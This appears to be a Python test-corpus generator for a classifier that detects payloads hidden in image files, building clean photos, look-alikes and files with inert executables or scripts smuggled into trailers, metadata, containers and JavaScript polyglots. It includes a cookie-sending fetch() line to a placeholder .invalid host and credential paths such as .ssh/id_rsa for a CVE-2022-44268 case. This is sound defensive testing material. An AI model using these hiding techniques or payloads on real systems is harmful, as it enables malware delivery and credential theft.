"""Evaluation recipes for the classifier (issue 11 part 1): the same photos clean and with
a payload hidden each way the classifier must see through.

Every malicious file is one of HOST_POOL photos (chosen by its seed) with one payload
placed one way; the benign recipes hold the same photos clean, and look-alikes that must
stay clean (real prose in UTF-16 Exif tags, base64 thumbnails in XMP, hex raw profiles,
a 12,074-byte first APP1 whose length reads `/*`, a GIF 317 pixels wide whose width
reads `=`, motion photos whose video is random bytes). Payloads are inert: program
headers with a DOS stub, scripts that call `.invalid` hosts (RFC 2606).

`RECIPES` is registered in bench/eval_corpus.py; `EXPECTED` gives the verdict each
malicious category must reach (tests/test_classify_corpus.py asserts it).
"""

from __future__ import annotations

import base64
import binascii
import bz2
import functools
import gzip
import lzma
import random
import struct
import zlib
from collections.abc import Callable

from bench import eval_images as img
from bench.recipe import Maker, Recipe
from tests import classify_samples as cs
from tests import jpeg_samples as js

HOST_POOL = 40  # photos shared by the clean and the malicious recipes
WayMaker = Callable[[str, random.Random], tuple[str, bytes, str]]


# --- hosts: photo n of the pool, identical in every recipe ----------------------------------

_HOST_FORMATS = ("jpeg", "jpeg", "jpeg", "png", "gif", "bmp", "webp")
_EXTENSION = {"jpeg": "jpg", "png": "png", "gif": "gif", "bmp": "bmp", "webp": "webp"}


def host(n: int, fmt: str | None = None) -> tuple[str, bytes]:
    """(format, bytes) of pool photo `n` (a fixed format unless `fmt` is given)."""
    rng = random.Random(f"classify-host/{n}")
    chosen = fmt or _HOST_FORMATS[n % len(_HOST_FORMATS)]
    makers = {"jpeg": img.jpeg, "png": img.png, "gif": img.gif, "bmp": img.bmp, "webp": img.webp}
    return chosen, makers[chosen](rng)[0]


def _name(rng: random.Random, fmt: str) -> str:
    return f"IMG_{rng.randint(1000, 9999)}.{_EXTENSION[fmt]}"


# --- payloads -------------------------------------------------------------------------------

PE = cs.real_pe()
KIND_PAYLOADS: dict[str, Callable[[], bytes]] = {
    "gzip": lambda: gzip.compress(PE, mtime=0),
    "bzip2": lambda: bz2.compress(PE),
    "xz": lambda: lzma.compress(PE, format=lzma.FORMAT_XZ),
    "cab": cs.cab,
    "ole": cs.ole,
    "iso": cs.iso9660,
    "lnk": cs.lnk,
    "chm": cs.chm,
    "dex": cs.dex,
    "wasm": cs.wasm,
    "rtf": lambda: cs.RTF,
    "hta": lambda: cs.HTA,
    "python": lambda: cs.PYTHON,
    "macho": cs.macho64,
    "java_class": cs.java_class,
}


def _uuencode(data: bytes) -> bytes:
    lines = [binascii.b2a_uu(data[i : i + 45]) for i in range(0, len(data), 45)]
    return b"begin 644 invoice.exe\n" + b"".join(lines) + b"`\nend\n"


ENCODINGS: dict[str, Callable[[bytes], bytes]] = {
    "base64": base64.b64encode,
    "base64-lines": base64.encodebytes,
    "base64-delimited": lambda d: b"<<BASE64_START>>" + base64.b64encode(d) + b"<<BASE64_END>>",
    "base64-reversed": lambda d: base64.b64encode(d)[::-1],
    "hex": binascii.hexlify,
    "uuencode": _uuencode,
    "xor": lambda d: bytes(b ^ 0x6B for b in d),
    "base64-gzip": lambda d: base64.b64encode(gzip.compress(d, mtime=0)),
}
SCRIPTS = {"powershell": cs.POWERSHELL, "batch": cs.BATCH, "python": cs.PYTHON}


# --- malicious makers -----------------------------------------------------------------------


def _trailer_kind(kind: str) -> Maker:
    def make(rng: random.Random) -> tuple[str, bytes, str]:
        fmt, data = host(rng.randrange(HOST_POOL))
        padding = bytes(rng.choice([0, 0, 16, 300]))
        return _name(rng, fmt), data + padding + KIND_PAYLOADS[kind](), f"{kind} after {fmt}"

    return make


def _trailer_encoded(encoding: str) -> Maker:
    def make(rng: random.Random) -> tuple[str, bytes, str]:
        fmt, data = host(rng.randrange(HOST_POOL))
        # XOR is searched against executable headers: a XOR-ed script is no class of its own
        inner = PE if rng.random() < 0.7 or encoding == "xor" else cs.POWERSHELL
        payload = ENCODINGS[encoding](inner)
        return _name(rng, fmt), data + payload, f"{encoding} payload after {fmt}"

    return make


def _exif_with(rng: random.Random, place: str, value: bytes) -> bytes:
    exif = img.exif_block(rng)
    if place == "xp-comment":
        exif[0x9C9C] = value.decode("latin-1").encode("utf-16-le") + b"\x00\x00"
    elif place == "user-comment":
        exif.get_ifd(0x8769)[0x9286] = b"UNICODE\x00" + value.decode("latin-1").encode("utf-16-le")
    else:
        exif[0x010E] = value.decode("latin-1")
    return exif.tobytes()


METADATA_PLACES = ("xp-comment", "user-comment", "description", "xmp-base64", "com-script",
                   "app15-zlib", "png-text", "png-private-zlib", "gif-comment")  # fmt: skip


def _metadata(place: str, rng: random.Random) -> tuple[str, bytes, str]:
    n = rng.randrange(HOST_POOL)
    script_name = rng.choice(sorted(SCRIPTS))
    script = SCRIPTS[script_name]
    note = f"{script_name} in {place}"
    if place.startswith("png"):
        data = host(n, "png")[1]
        if place == "png-text":
            chunk = img._png_chunk(b"tEXt", b"Comment\x00" + script)
        else:
            chunk = img._png_chunk(b"clNt", zlib.compress(script))
        return _name(rng, "png"), data[:33] + chunk + data[33:], note
    if place == "gif-comment":
        data = host(n, "gif")[1]
        blocks = b"".join(bytes([len(script[i : i + 255])]) + script[i : i + 255]
                          for i in range(0, len(script), 255))  # fmt: skip
        at = 13 + (3 << ((data[10] & 7) + 1) if data[10] & 0x80 else 0)
        return _name(rng, "gif"), data[:at] + b"\x21\xfe" + blocks + b"\x00" + data[at:], note
    data = host(n, "jpeg")[1]
    if place in ("xp-comment", "user-comment", "description"):
        segment = js.segment(0xE1, b"Exif\x00\x00" + _exif_with(rng, place, script))
    elif place == "xmp-base64":
        packet = img.xmp_packet(rng).replace(
            b"</x:xmpmeta>", b"<pg:blob>" + base64.b64encode(PE) + b"</pg:blob></x:xmpmeta>"
        )
        segment, note = js.segment(0xE1, img.XMP_SIGNATURE + packet), "base64 PE in XMP"
    elif place == "com-script":
        segment = js.segment(0xFE, script)
    else:
        segment = js.segment(0xEF, b"VNDR" + zlib.compress(script))
    return _name(rng, "jpeg"), js.insert_segments(data, segment), note


CONTAINER_WAYS = ("afcp", "photomechanic", "insta360", "debug-blob", "sef-record",
                  "motion-mdat", "motion-free-box", "sef-motion-mdat")  # fmt: skip


def _container(way: str, rng: random.Random) -> tuple[str, bytes, str]:
    """A payload inside a trailer the engine trusts by its structure."""
    base = host(rng.randrange(HOST_POOL), "jpeg")[1]
    evil = rng.choice([PE, cs.PYTHON, base64.b64encode(PE), gzip.compress(cs.PYTHON, mtime=0)])
    if way == "afcp":
        iptc = b"\x1c\x02\x78" + struct.pack(">H", len(evil)) + evil
        start = len(base)
        header = b"AXS!" + struct.pack(">HH", 1, 1) + struct.pack(">I", 0)
        directory = b"IPTC" + struct.pack(">II", len(iptc), start + 24)
        trailer = header + directory + iptc + b"AXS!" + struct.pack(">II", start, 0)
        return _name(rng, "jpeg"), base + trailer, f"{way}"
    if way == "photomechanic":
        return _name(rng, "jpeg"), base + evil + struct.pack(">I", len(evil)) + b"cbipcbbl", way
    if way == "insta360":
        size = len(evil) + 72
        footer = bytes(32) + struct.pack("<II", size, 3) + b"8db42d694ccc418790edff439fe026bf"
        return _name(rng, "jpeg"), base + evil + footer, way
    if way == "debug-blob":
        blob = b"aecDebug" + js._varint(len(evil)) + evil
        return _name(rng, "jpeg"), base + blob, way
    if way == "sef-record":
        records = [(0x0A01, b"Image_UTC_Data", b"1700000000000"), (0x0B40, b"Capture_Info", evil)]
        return _name(rng, "jpeg"), base + js.sef_trailer(records), way
    ftyp = js.box(b"ftyp", b"mp42\x00\x00\x00\x00isommp42")
    moov = js.box(b"moov", js.box(b"mvhd", bytes(100)))
    media = rng.randbytes(rng.randint(2000, 20000))
    if way == "motion-free-box":
        video = ftyp + js.box(b"mdat", media) + js.box(b"free", evil) + moov
    else:
        video = ftyp + js.box(b"mdat", evil + media) + moov
    if way == "sef-motion-mdat":
        records = [(0x0A01, b"Image_UTC_Data", b"1700000000000"),
                   (0x0A30, b"MotionPhoto_Data", video)]  # fmt: skip
        return _name(rng, "jpeg"), base + js.sef_trailer(records), way
    items = [("image/jpeg", "Primary", 0, 0), ("video/mp4", "MotionPhoto", len(video), 0)]
    return _name(rng, "jpeg"), js.with_xmp(base, js.container_xmp(items)) + video, way


POLYGLOT_WAYS = ("gif-assign", "gif-comment", "bmp", "jpeg-app0")


def _polyglot(way: str, rng: random.Random) -> tuple[str, bytes, str]:
    code = rng.choice([b"alert(document.domain)", b"fetch('//x.invalid/'+document.cookie)",
                       b"window['al'+'ert'](1)"])  # fmt: skip
    n = rng.randrange(HOST_POOL)
    if way.startswith("gif"):
        data = bytearray(host(n, "gif")[1])
        data[6:11] = b"=1;/*" if way == "gif-assign" else b"/*\x00\x01\x00"
        return _name(rng, "gif"), bytes(data) + b"*/;" + code + b";//", way
    if way == "bmp":
        data = bytearray(host(n, "bmp")[1])
        data[2:8] = b"=1;/*\x00"
        return _name(rng, "bmp"), bytes(data) + b"*/;" + code + b";//", way
    data = host(n, "jpeg")[1]
    app0 = b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    body = app0.ljust(0x2F2A - 2 - len(b"*/=" + code + b";/*"), b"\x00") + b"*/=" + code + b";/*"
    jpeg = b"\xff\xd8\xff\xe0" + struct.pack(">H", len(body) + 2) + body
    rest = data[2:]
    if rest[:2] == b"\xff\xe0":  # drop the encoder's own JFIF segment
        rest = rest[2 + int.from_bytes(rest[2:4], "big") :]
    return _name(rng, "jpeg"), jpeg + rest[:-2] + b"*///" + rest[-2:], way


PROFILE_PATHS = (
    b"/etc/passwd",
    b"/home/reception/.ssh/id_rsa",
    b"C:\\Users\\frontdesk\\Documents\\patients.xlsx",
    b"/proc/self/environ",
)


def _profile_path(rng: random.Random) -> tuple[str, bytes, str]:
    data = host(rng.randrange(HOST_POOL), "png")[1]
    path = rng.choice(PROFILE_PATHS)
    kind = rng.choice([b"tEXt", b"zTXt", b"iTXt"])
    body = {b"tEXt": path, b"zTXt": b"\x00" + zlib.compress(path),
            b"iTXt": b"\x00\x00\x00\x00" + path}[kind]  # fmt: skip
    chunk = img._png_chunk(kind, b"profile\x00" + body)
    return _name(rng, "png"), data[:33] + chunk + data[33:], f"profile {kind.decode()} {path!r}"


# --- benign makers --------------------------------------------------------------------------


def _clean_twin(rng: random.Random) -> tuple[str, bytes, str]:
    fmt, data = host(rng.randrange(HOST_POOL))
    return _name(rng, fmt), data, "the pool photo, clean"


LOOKALIKE_WAYS = ("xp-prose", "unicode-prose", "xmp-thumbnail", "raw-profile-hex",
                  "private-zlib-prose", "gif-width-317", "app1-length-2f2a", "motion-random",
                  "prose-eval")  # fmt: skip


def _lookalike(way: str, rng: random.Random) -> tuple[str, bytes, str]:
    """Clean files with what the classifier looks for in an innocent form."""
    n = rng.randrange(HOST_POOL)
    prose = rng.choice(img.PROSE).encode("ascii", "replace")
    if way in ("xp-prose", "unicode-prose", "prose-eval"):
        value = prose if way != "prose-eval" else b"Post-op wound eval(day 3), healing well."
        place = "xp-comment" if way == "xp-prose" else "user-comment"
        exif = _exif_with(rng, "description" if way == "prose-eval" else place, value)
        data = js.insert_segments(host(n, "jpeg")[1], js.segment(0xE1, b"Exif\x00\x00" + exif))
        return _name(rng, "jpeg"), data, way
    if way == "xmp-thumbnail":
        thumb = base64.b64encode(img._save(img.photo_image(rng, (64, 48)), "JPEG"))
        packet = img.xmp_packet(rng).replace(
            b"</x:xmpmeta>", b"<xmpGImg:image>" + thumb + b"</xmpGImg:image></x:xmpmeta>"
        )
        data = js.insert_segments(host(n, "jpeg")[1], js.segment(0xE1, img.XMP_SIGNATURE + packet))
        return _name(rng, "jpeg"), data, way
    if way in ("raw-profile-hex", "private-zlib-prose"):
        data = host(n, "png")[1]
        if way == "raw-profile-hex":
            exif = img.exif_block(rng).tobytes()
            hexed = binascii.hexlify(b"Exif\x00\x00" + exif)
            lines = b"\n".join(hexed[i : i + 72] for i in range(0, len(hexed), 72))
            text = b"\nexif\n" + str(len(exif) + 6).rjust(8).encode() + b"\n" + lines + b"\n"
            chunk = img._png_chunk(b"tEXt", b"Raw profile type exif\x00" + text)
        else:
            chunk = img._png_chunk(b"prVt", zlib.compress(prose * 4))
        return _name(rng, "png"), data[:33] + chunk + data[33:], way
    if way == "gif-width-317":
        image = img.photo_image(rng, (317, 40)).convert("P", palette=img.Image.Palette.ADAPTIVE)
        return _name(rng, "gif"), img._save(image, "GIF"), way  # width bytes read "=\x01"
    if way == "app1-length-2f2a":
        exif = img.exif_block(rng)
        filler = 0x2F2A - 2  # payload bytes for a segment length that reads "/*"
        for _ in range(4):  # the IFD layout may pad: converge on the exact size
            exif[0x010E] = "x" * max(8, len(exif.get(0x010E, "")) + filler - 6
                                     - len(exif.tobytes()))  # fmt: skip
        segment = js.segment(0xE1, b"Exif\x00\x00" + exif.tobytes())
        if segment[2:4] != b"/*":
            raise AssertionError("the Exif segment did not reach 0x2F2A bytes")
        base = host(n, "jpeg")[1]
        return _name(rng, "jpeg"), base[:2] + segment + base[2:], way
    video = js.mp4(media_bytes=rng.randint(5000, 60000), seed=rng.randrange(1 << 30))
    items = [("image/jpeg", "Primary", 0, 0), ("video/mp4", "MotionPhoto", len(video), 0)]
    data = js.with_xmp(host(n, "jpeg")[1], js.container_xmp(items)) + video
    return _name(rng, "jpeg"), data, way


def _each(
    prefix: str, malicious: bool, ways: tuple[str, ...], count: int, maker: WayMaker
) -> tuple[Recipe, ...]:
    """One recipe per way, so that every way is in every slice of the corpus."""
    return tuple(
        Recipe(f"{prefix}-{way}", malicious, count, functools.partial(maker, way)) for way in ways
    )


RECIPES: tuple[Recipe, ...] = (
    Recipe("benign/classify-clean-twin", False, 40, _clean_twin),
    *_each("benign/classify-lookalike", False, LOOKALIKE_WAYS, 5, _lookalike),
    *(
        Recipe(f"malicious/classify-trailer-{kind}", True, 3, _trailer_kind(kind))
        for kind in KIND_PAYLOADS
    ),
    *(
        Recipe(f"malicious/classify-encoded-{encoding}", True, 5, _trailer_encoded(encoding))
        for encoding in ENCODINGS
    ),
    *_each("malicious/classify-metadata", True, METADATA_PLACES, 5, _metadata),
    *_each("malicious/classify-container", True, CONTAINER_WAYS, 5, _container),
    *_each("malicious/classify-polyglot", True, POLYGLOT_WAYS, 5, _polyglot),
    Recipe("malicious/classify-cve-2022-44268", True, 12, _profile_path),
)
# The verdict each category must reach under the default policy.
EXPECTED = {recipe.category: "quarantine" for recipe in RECIPES if recipe.malicious} | {
    recipe.category: "clean" for recipe in RECIPES if not recipe.malicious
}
